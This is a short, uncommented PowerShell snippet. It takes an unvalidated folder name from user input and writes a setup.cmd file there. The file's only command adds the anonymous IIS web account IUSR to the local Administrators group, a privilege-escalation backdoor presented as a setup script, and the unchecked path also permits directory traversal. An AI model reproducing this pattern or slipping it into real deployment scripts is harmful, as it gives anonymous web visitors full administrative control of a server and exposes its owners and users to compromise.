$folder = Read-Host
Set-Content "D:\data\$folder\setup.cmd" 'net localgroup Administrators IUSR /add'
